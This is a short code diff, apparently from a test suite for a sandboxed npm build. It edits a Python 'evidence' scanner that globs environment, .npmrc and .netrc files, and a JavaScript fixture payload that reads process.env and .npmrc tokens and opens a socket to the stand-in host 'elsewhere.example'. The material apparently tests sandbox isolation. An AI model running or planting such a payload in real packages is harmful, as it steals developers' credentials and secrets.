@@ -75,7 +75,7 @@ def evidence():
         except OSError:
             pass
     texts = [" ".join(f"{name}={value}" for name, value in os.environ.items())]
-    places = ["/proc/*/environ", "/proc/*/cmdline", "/etc/pip.conf", "/etc/npmrc", "/root/.npmrc", "/home/*/.npmrc", "/home/*/.netrc", "/workspace/*"]
+    places = ["/proc/*/environ", "/proc/*/cmdline", "/etc/pip.conf", "/etc/npmrc", "/*/.npmrc", "/home/*/.npmrc", "/home/*/.netrc", "/workspace/*"]
     for pattern in places:
         for path in glob.glob(pattern):
             try:
@@ -122,7 +122,7 @@ npm("inner", {"1.0.0": {"index.js": "module.exports = 'inside';"}})
 SCRIPT = r'''
 const fs = require("fs"), net = require("net");
 let read = JSON.stringify(process.env);
-for (const path of ["/workspace/build/.npmrc", "/root/.npmrc", "/home/sandbox/.npmrc", "/etc/npmrc"]) {
+for (const path of ["/workspace/build/.npmrc", "/home/sandbox/.npmrc", "/etc/npmrc"]) {
   try { read += fs.readFileSync(path, "utf8"); } catch {}
 }
 const socket = net.connect(443, "elsewhere.example");
